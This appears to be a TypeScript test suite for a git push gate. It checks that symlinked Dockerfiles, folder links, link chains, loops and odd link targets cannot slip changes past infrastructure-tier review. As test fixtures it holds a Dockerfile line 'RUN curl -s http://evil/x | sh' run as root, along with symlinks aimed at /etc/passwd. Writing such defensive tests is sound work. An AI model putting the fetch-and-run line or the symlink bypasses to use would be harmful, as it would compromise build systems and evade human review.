import * as assert from 'assert';
import * as fs from 'fs';
import * as path from 'path';
import { verifyThenPush, withoutGate } from '../helpers/gateAgreement';
import { commitFile, policyJson, setup, type Setup } from '../helpers/gateServer';
import { makeKey } from '../helpers/reviewerKeys';
import type { TempRepo } from '../helpers/tempRepo';
import { prePushHook } from '../helpers/refVerdicts';

const HUMAN = (n: number) => `AI-Provenance: v1 ai=0 human=${n} untracked=0`;

/** Puts a symlink `at` -> `target` (as written, relative to its folder) into the clone's index. */
function link(repo: TempRepo, at: string, target: string): void {
  const p = path.join(repo.dir, at);
  fs.mkdirSync(path.dirname(p), { recursive: true });
  fs.rmSync(p, { force: true, recursive: true });
  fs.symlinkSync(target, p);
  repo.git('add', '-A', '--', at);
}

/** The state a repository had before the gate (planted by an administrator): no review judged it. */
function plant(s: Setup, build: () => void): void {
  build();
  s.ada.commit('pre-gate layout', '-m', HUMAN(2));
  withoutGate(s.server, () => assert.strictEqual(s.ada.gitResult(['push', '-q', 'origin', 'main']).status, 0));
}

/** The pre-push hook's verdict for pushing HEAD to main, with the ref line git gives it. */
function prePush(repo: TempRepo): { status: number; stderr: string } {
  const remote = repo.git('rev-parse', 'origin/main');
  const local = repo.git('rev-parse', 'HEAD');
  return prePushHook(repo, `refs/heads/main ${local} refs/heads/main ${remote}\n`);
}

/**
 * attack17 Q5: the tiers matched the changed paths only. With `Dockerfile` a symlink to build/image.txt, a human
 * commit rewriting build/image.txt (USER root, curl | sh) changed what `docker build` reads with no approval, while
 * the same edit of a regular Dockerfile needed the infrastructure tier's two. A tier or review.paths pattern that
 * matches a symlink in the judged tree now charges changes to the link's in-repository target too, and verify, the
 * pre-push hook, explain and the server's pre-receive (the one rule: core/policyPaths.ts) agree.
 */
describe('attack17 Q5: a tier path that is a symlink charges its target (real server)', function () {
  this.timeout(180_000);

  it("a change to a symlinked Dockerfile's target needs the infrastructure tier, and all four judges agree", () => {
    const s = setup();
    plant(s, () => {
      s.ada.write('build/image.txt', 'FROM alpine:3.19\nUSER app\n');
      s.ada.git('add', 'build/image.txt');
      link(s.ada, 'Dockerfile', 'build/image.txt');
    });
    const before = s.server.git('rev-parse', 'main');
    const sha = commitFile(
      s.ada,
      'build/image.txt',
      'FROM alpine:3.19\nUSER root\nRUN curl -s http://evil/x | sh\n',
      `tweak image notes\n\n${HUMAN(2)}`,
    );
    const hook = prePush(s.ada);
    const explain = JSON.parse(s.ada.cli(['explain', sha, '--branch', 'main', '--json']).stdout) as {
      gate: { decision?: { ok: boolean; tiers: string[]; reasons: string[] } };
    };
    const pushed = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.notStrictEqual(pushed.status, 0, 'the effective Dockerfile changed: the tier holds it');
    assert.match(pushed.stderr, /tier 'infrastructure': touches build\/image\.txt \(through the symlink Dockerfile\)/);
    assert.strictEqual(s.server.git('rev-parse', 'main'), before);
    assert.notStrictEqual(hook.status, 0, `pre-push agrees: ${hook.stderr}`);
    assert.match(hook.stderr, /through the symlink Dockerfile/);
    assert.strictEqual(explain.gate.decision?.ok, false, 'explain agrees');
    assert.deepStrictEqual(explain.gate.decision?.tiers, ['infrastructure']);
  });

  it('a symlinked directory (k8s -> misc/things) and a chain of links charge changes under their targets', () => {
    const s = setup();
    plant(s, () => {
      s.ada.write('misc/things/values.txt', 'replicas: 2\n');
      s.ada.write('img/real.txt', 'FROM alpine\n');
      s.ada.git('add', 'misc', 'img');
      link(s.ada, 'k8s', 'misc/things');
      link(s.ada, 'img/current', 'real.txt');
      link(s.ada, 'Containerfile', './img/../img/current');
    });
    commitFile(s.ada, 'misc/things/values.txt', 'replicas: 0\n', `scale down\n\n${HUMAN(1)}`);
    const dir = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.notStrictEqual(dir.status, 0, 'k8s/values.txt changed through the linked folder');
    assert.match(dir.stderr, /touches misc\/things\/values\.txt \(through the symlink k8s\)/);
    s.ada.git('reset', '-q', '--hard', 'origin/main');
    commitFile(s.ada, 'img/real.txt', 'FROM evil\n', `base image\n\n${HUMAN(1)}`);
    const chain = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.notStrictEqual(chain.status, 0, 'two hops: Containerfile -> img/current -> img/real.txt');
    assert.match(chain.stderr, /touches img\/real\.txt \(through the symlink Containerfile\)/);
  });

  it('making a tier path a symlink, or retargeting it, is a change to it; links leaving the repository and loops are ignored', () => {
    const s = setup();
    plant(s, () => {
      s.ada.write('notes/a.txt', 'a\n');
      s.ada.git('add', 'notes');
      link(s.ada, 'loop/a', 'b');
      link(s.ada, 'loop/b', 'a');
      link(s.ada, 'outside', '../../etc/passwd');
      link(s.ada, 'absolute', '/etc/passwd');
    });
    // Links that lead nowhere in the repository change nothing for the tiers: an ordinary human commit passes.
    commitFile(s.ada, 'notes/a.txt', 'b\n', `notes\n\n${HUMAN(1)}`);
    assert.strictEqual(verifyThenPush(s.ada, 'main', ['origin', 'main']).status, 0);
    link(s.ada, 'Dockerfile', 'notes/a.txt');
    s.ada.commit('link the image', '-m', HUMAN(0));
    const made = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.notStrictEqual(made.status, 0, 'a Dockerfile that appears as a symlink is a Dockerfile change');
    assert.match(made.stderr, /tier 'infrastructure': touches Dockerfile/);
  });

  it('review.paths follows a symlink to its target too', () => {
    const bob = makeKey('bob');
    const carol = makeKey('carol');
    const s = setup(policyJson(bob, carol, { review: { paths: ['config/prod.env'] }, tiers: [] }));
    plant(s, () => {
      s.ada.write('shared/values.env', 'DEBUG=0\n');
      s.ada.git('add', 'shared');
      link(s.ada, 'config/prod.env', '../shared/values.env');
    });
    commitFile(s.ada, 'shared/values.env', 'DEBUG=1\n', `values\n\n${HUMAN(1)}`);
    const r = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.notStrictEqual(r.status, 0);
    assert.match(
      r.stderr,
      /touches shared\/values\.env \(through the symlink config\/prod\.env\), which always needs review/,
    );
  });
});

/** The Q5 layout, planted before the gate: `Dockerfile` -> build/image.txt. */
function plantQ5(s: Setup): void {
  plant(s, () => {
    s.ada.write('build/image.txt', 'FROM alpine:3.19\nUSER app\n');
    s.ada.git('add', 'build/image.txt');
    link(s.ada, 'Dockerfile', 'build/image.txt');
  });
}

const EVIL = 'FROM alpine:3.19\nUSER root\nRUN curl -s http://evil/x | sh\n';

/** Replaces the folder `build` by a link whose blob is `target` byte for byte (a NUL is kept: checkout cuts there). */
function buildLinkBlob(repo: TempRepo, target: string): void {
  repo.git('rm', '-rq', '--cached', 'build');
  fs.rmSync(path.join(repo.dir, 'build'), { recursive: true, force: true });
  const blob = repo.gitResult(['hash-object', '-w', '--stdin'], target).stdout.trim();
  repo.git('update-index', '--add', '--cacheinfo', `120000,${blob},build`);
}

/**
 * attack24 07/08/12: the Q5 defence gave up silently where the file system does not — past 64 names of one path,
 * past 8 links in a chain, at a NUL in a link's target, at an absolute target such as /proc/self/cwd/img — and
 * treated such a link as harmless. Each attack below landed on main before the fix (seen).
 */
describe('attack24 07/08/12: links the gate could not follow are not harmless (real server)', function () {
  this.timeout(240_000);

  it('07: 70 decoy links to the same file, landed first, do not hide the Dockerfile that names it', () => {
    const s = setup();
    plantQ5(s);
    for (let i = 1; i <= 70; i++) link(s.ada, `A${String(i).padStart(3, '0')}`, 'build/image.txt');
    s.ada.commit('shortcuts', '-m', HUMAN(70));
    assert.strictEqual(verifyThenPush(s.ada, 'main', ['origin', 'main']).status, 0, 'harmless links land');
    commitFile(s.ada, 'build/image.txt', EVIL, `image tweak\n\n${HUMAN(2)}`);
    const r = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.notStrictEqual(r.status, 0, 'the Dockerfile changed: the tier holds it');
    assert.match(r.stderr, /tier 'infrastructure': touches build\/image\.txt \(through the symlink Dockerfile\)/);
  });

  it('08: a chain of 10 links is followed as Linux follows it; past 40, or a loop, the added link needs review', () => {
    const s = setup();
    plantQ5(s);
    const chain = (n: number, end: string) => {
      s.ada.git('reset', '-q', '--hard', 'origin/main');
      s.ada.git('rm', '-rq', 'build');
      let prev = end;
      for (let i = n; i >= 1; i--) {
        link(s.ada, `h${i}`, prev);
        prev = `h${i}`;
      }
      link(s.ada, 'build', prev);
    };
    chain(10, 'img');
    s.ada.write('img/image.txt', EVIL);
    s.ada.git('add', 'img');
    s.ada.commit('layout', '-m', HUMAN(3));
    const ten = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.notStrictEqual(ten.status, 0, 'docker reads img/image.txt through 12 links');
    assert.match(ten.stderr, /tier 'infrastructure': touches build \(through the symlink Dockerfile\)/);
    chain(45, 'img');
    s.ada.write('img/image.txt', EVIL);
    s.ada.git('add', 'img');
    s.ada.commit('layout', '-m', HUMAN(3));
    const long = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.notStrictEqual(long.status, 0, 'a resolver that follows more links than Linux reads the new image');
    // Dockerfile's lookup passes the new link `build`: it is charged by that name before the cut.
    assert.match(long.stderr, /tier 'infrastructure': touches build \(through the symlink Dockerfile\)/);
    chain(2, 'h1');
    s.ada.commit('loop', '-m', HUMAN(3));
    const loop = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.notStrictEqual(loop.status, 0, 'a loop the gate cannot follow is no harmless change');
    assert.match(loop.stderr, /tier 'infrastructure': touches build \(through the symlink Dockerfile\)/);
  });

  it('08: making a folder a link to content landed earlier changes what the Dockerfile reads', () => {
    const s = setup();
    plantQ5(s);
    commitFile(s.ada, 'img/image.txt', EVIL, `a draft image\n\n${HUMAN(3)}`);
    assert.strictEqual(verifyThenPush(s.ada, 'main', ['origin', 'main']).status, 0, 'no tier path reads img/');
    s.ada.git('rm', '-rq', 'build');
    link(s.ada, 'build', 'img');
    s.ada.commit('layout', '-m', HUMAN(1));
    const r = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.notStrictEqual(r.status, 0, 'the Dockerfile now reads img/image.txt');
    assert.match(r.stderr, /tier 'infrastructure': touches build \(through the symlink Dockerfile\)/);
  });

  it('12: a NUL in a link target is cut there, as checkout cuts it', () => {
    const s = setup();
    plantQ5(s);
    buildLinkBlob(s.ada, 'img\0x');
    s.ada.write('img/image.txt', EVIL);
    s.ada.git('add', 'img');
    s.ada.commit('layout', '-m', HUMAN(3));
    const r = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.notStrictEqual(r.status, 0, 'checkout makes build -> img');
    assert.match(r.stderr, /tier 'infrastructure': touches (img\/image\.txt|build) \(through the symlink Dockerfile\)/);
  });

  it('12: a target padded past PATH_MAX after its NUL is read up to the NUL, not dropped', () => {
    const s = setup();
    plant(s, () => {
      s.ada.write('img/image.txt', 'FROM alpine:3.19\nUSER app\n');
      s.ada.git('add', 'img');
      link(s.ada, 'build', 'img');
      link(s.ada, 'Dockerfile', 'build/image.txt');
    });
    commitFile(s.ada, 'draft/image.txt', EVIL, `a draft image\n\n${HUMAN(3)}`);
    assert.strictEqual(verifyThenPush(s.ada, 'main', ['origin', 'main']).status, 0, 'no tier path reads draft/');
    // Too long to read whole (4 KiB), the link was dropped from the gate's map: `build` changed nothing it knew of.
    buildLinkBlob(s.ada, `draft\0${'x'.repeat(5000)}`);
    s.ada.commit('retarget', '-m', HUMAN(1));
    const r = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.notStrictEqual(r.status, 0, 'checkout makes build -> draft');
    assert.match(r.stderr, /tier 'infrastructure': touches build \(through the symlink Dockerfile\)/);
  });

  it('12: an absolute target that can lead back into a checkout (/proc/self/cwd, /dev/fd) needs review; /dev/null does not', () => {
    const s = setup();
    plantQ5(s);
    buildLinkBlob(s.ada, '/proc/self/cwd/img');
    s.ada.write('img/image.txt', EVIL);
    s.ada.git('add', 'img');
    s.ada.commit('layout', '-m', HUMAN(3));
    const r = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.notStrictEqual(r.status, 0, 'from the repository root, build is img');
    assert.match(r.stderr, /tier 'infrastructure': touches build \(through the symlink Dockerfile\)/);
    s.ada.git('reset', '-q', '--hard', 'origin/main');
    link(s.ada, 'fd', '/dev/fd/3/img');
    link(s.ada, 'up', '../../repo/img');
    s.ada.commit('more links', '-m', HUMAN(2));
    const fd = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.notStrictEqual(fd.status, 0);
    // No tier path reads through them, but they may be any path: each tier holds them, saying why.
    assert.match(
      fd.stderr,
      /tier 'infrastructure': touches (fd|up) \(a symbolic link the gate cannot follow as the file system would: its target (leaves the repository for "\/dev\/fd\/3\/img"|climbs above)/,
    );
    s.ada.git('reset', '-q', '--hard', 'origin/main');
    link(s.ada, 'quiet.log', '/dev/null');
    link(s.ada, 'zone', '/usr/share/zoneinfo/UTC');
    s.ada.commit('system links', '-m', HUMAN(2));
    assert.strictEqual(verifyThenPush(s.ada, 'main', ['origin', 'main']).status, 0, 'no checkout lives there');
  });
});

/**
 * The residue the Q5 defence left (threat model, "Not done"): a *new* link to a folder gives names to the files
 * under its target, which the gate does not list. With `k8s/**` in a tier and `misc/app.yaml` landed as an
 * ordinary file, adding the link `k8s -> misc` makes deploy tooling that reads k8s/ read misc/app.yaml, yet the
 * commit's one changed path is the link `k8s`, which no `k8s/**` pattern names (the name `k8s` is not under it).
 * Landed before the fix (seen). A changed link now meets each pattern that could match a path under its name and
 * that would not match the same path under the folder it leads to (core/globUnder.ts, core/policyPaths.ts).
 */
describe('a new link to a folder meets the patterns that match under its name (real server)', function () {
  this.timeout(240_000);

  const tierPolicy = (paths: string[]) =>
    policyJson(makeKey('bob'), makeKey('carol'), {
      tiers: [{ name: 'infrastructure', paths, approvals: 2, ignoreCase: true }],
    });

  it('k8s -> misc, added where no k8s/ was, needs the tier that names k8s/**', () => {
    const s = setup(tierPolicy(['k8s/**', '*.tf', '**/values.yaml']));
    commitFile(s.ada, 'misc/app.yaml', 'kind: Deployment\n', `an app manifest\n\n${HUMAN(1)}`);
    assert.strictEqual(verifyThenPush(s.ada, 'main', ['origin', 'main']).status, 0, 'misc/ is in no tier');
    const before = s.server.git('rev-parse', 'main');
    link(s.ada, 'k8s', 'misc');
    s.ada.commit('layout', '-m', HUMAN(0));
    const r = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.notStrictEqual(r.status, 0, 'deploy tooling reading k8s/ now reads misc/app.yaml');
    assert.match(r.stderr, /tier 'infrastructure': touches k8s \(a symbolic link: files under it meet k8s\/\*\*\)/);
    assert.strictEqual(s.server.git('rev-parse', 'main'), before);
    assert.notStrictEqual(prePush(s.ada).status, 0, 'the pre-push hook agrees');
  });

  it('retargeting a link, or a file becoming one, is held the same way; any letter case in an ignoreCase tier', () => {
    const s = setup(tierPolicy(['deploy/k8s/*.yaml']));
    plant(s, () => {
      s.ada.write('misc/app.yaml', 'kind: Deployment\n');
      s.ada.write('prod/app.yaml', 'kind: Deployment\n');
      s.ada.write('Deploy/K8s', 'a note\n');
      s.ada.git('add', 'misc', 'prod', 'Deploy');
      link(s.ada, 'deploy/k8s', '../prod');
    });
    link(s.ada, 'deploy/k8s', '../misc');
    s.ada.commit('retarget', '-m', HUMAN(0));
    const retarget = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.notStrictEqual(retarget.status, 0, 'deploy/k8s now reads misc/');
    assert.match(retarget.stderr, /touches deploy\/k8s \(a symbolic link: files under it meet deploy\/k8s\/\*\.yaml\)/);
    s.ada.git('reset', '-q', '--hard', 'origin/main');
    link(s.ada, 'Deploy/K8s', '../misc');
    s.ada.commit('a note becomes a link', '-m', HUMAN(0));
    const typed = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.notStrictEqual(typed.status, 0, 'a file turned into a link to a folder');
    assert.match(typed.stderr, /touches Deploy\/K8s \(a symbolic link: files under it meet deploy\/k8s\/\*\.yaml\)/);
  });

  it('a link named by a folder link (a -> infra, then infra/k8s -> ../misc) is judged by that name too', () => {
    const s = setup(tierPolicy(['a/k8s/**']));
    plant(s, () => {
      s.ada.write('misc/app.yaml', 'kind: Deployment\n');
      s.ada.write('infra/README', 'infra\n');
      s.ada.git('add', 'misc', 'infra');
      link(s.ada, 'a', 'infra');
    });
    link(s.ada, 'infra/k8s', '../misc');
    s.ada.commit('layout', '-m', HUMAN(0));
    const r = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.notStrictEqual(r.status, 0, 'a/k8s/app.yaml is misc/app.yaml now');
    assert.match(
      r.stderr,
      /touches infra\/k8s \(a symbolic link: files under a\/k8s, through the symlink a, meet a\/k8s\/\*\*\)/,
    );
  });

  it('edits under an existing link to a folder, and a link to a tier folder (deploy -> k8s), were already judged', () => {
    const s = setup(tierPolicy(['k8s/**']));
    plant(s, () => {
      s.ada.write('misc/app.yaml', 'kind: Deployment\n');
      s.ada.write('k8s/base.yaml', 'kind: Namespace\n');
      s.ada.git('add', 'misc', 'k8s/base.yaml');
      link(s.ada, 'k8s/apps', '../misc');
    });
    commitFile(s.ada, 'misc/app.yaml', 'kind: Deployment\nreplicas: 0\n', `scale\n\n${HUMAN(1)}`);
    const edit = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.notStrictEqual(edit.status, 0);
    assert.match(edit.stderr, /touches misc\/app\.yaml \(through the symlink k8s\/apps\)/);
    s.ada.git('reset', '-q', '--hard', 'origin/main');
    // Another name for reviewed files: what is under k8s/ keeps its own names, which the tier still holds.
    link(s.ada, 'deploy', 'k8s');
    s.ada.commit('a shortcut', '-m', HUMAN(0));
    assert.strictEqual(verifyThenPush(s.ada, 'main', ['origin', 'main']).status, 0, 'deploy/ is in no tier');
    commitFile(s.ada, 'k8s/base.yaml', 'kind: Namespace\nname: x\n', `rename\n\n${HUMAN(1)}`);
    const own = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.notStrictEqual(own.status, 0);
    assert.match(own.stderr, /tier 'infrastructure': touches k8s\/base\.yaml/);
  });

  it('removing a link to a folder, or making it a file, takes its files away from the tier as deleting them would', () => {
    const s = setup(tierPolicy(['k8s/**']));
    plant(s, () => {
      s.ada.write('misc/app.yaml', 'kind: Deployment\n');
      s.ada.write('docs/v2/index.md', '# v2\n');
      s.ada.git('add', 'misc', 'docs');
      link(s.ada, 'k8s', 'misc');
      link(s.ada, 'docs/latest', 'v2');
    });
    s.ada.git('rm', '-q', 'k8s');
    s.ada.commit('drop the shortcut', '-m', HUMAN(0));
    const gone = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.notStrictEqual(gone.status, 0, 'deploy tooling reading k8s/ no longer finds app.yaml');
    assert.match(gone.stderr, /touches k8s \(a symbolic link it removes: files under it met k8s\/\*\*\)/);
    s.ada.git('reset', '-q', '--hard', 'origin/main');
    s.ada.git('rm', '-q', 'k8s');
    commitFile(s.ada, 'k8s', 'a note\n', `a file now\n\n${HUMAN(1)}`);
    const typed = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.notStrictEqual(typed.status, 0);
    assert.match(typed.stderr, /touches k8s \(a symbolic link it removes: files under it met k8s\/\*\*\)/);
    s.ada.git('reset', '-q', '--hard', 'origin/main');
    s.ada.git('rm', '-q', 'docs/latest');
    s.ada.commit('drop docs/latest', '-m', HUMAN(0));
    assert.strictEqual(verifyThenPush(s.ada, 'main', ['origin', 'main']).status, 0, 'no tier names docs/latest/');
  });

  it('an honest repository is not held: a link to a file, a link to a folder elsewhere (docs/latest -> v2)', () => {
    for (const policy of [tierPolicy(['k8s/**', '*.tf', '**/values.yaml', 'Dockerfile']), undefined]) {
      const s = setup(policy);
      plant(s, () => {
        s.ada.write('docs/v2/index.md', '# v2\n');
        s.ada.write('docs/v2/values.yaml', 'a: 1\n');
        s.ada.write('docs/v2/main.tf', '# example\n');
        s.ada.git('add', 'docs');
      });
      link(s.ada, 'docs/latest', 'v2');
      link(s.ada, 'README.md', 'docs/v2/index.md');
      link(s.ada, 'all', '.');
      s.ada.commit('docs links', '-m', HUMAN(0));
      const r = verifyThenPush(s.ada, 'main', ['origin', 'main']);
      assert.strictEqual(r.status, 0, `${policy ? 'k8s/** tier' : 'default tiers'}: ${r.stderr}`);
    }
  });
});
